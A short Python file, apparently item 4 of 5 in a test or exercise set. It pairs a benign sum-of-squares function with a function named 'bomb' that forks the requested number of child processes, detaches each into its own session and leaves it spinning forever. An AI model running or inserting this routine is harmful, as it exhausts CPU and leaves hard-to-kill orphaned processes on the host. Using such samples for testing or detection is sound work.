# Item 4/5: busy children in their own sessions, and the honest work of a neighbour.
import os


def bomb(n):
    for _ in range(n):
        if os.fork() == 0:
            os.setsid()
            while True:
                pass
    return n


def work(n):
    return sum(i * i for i in range(n))
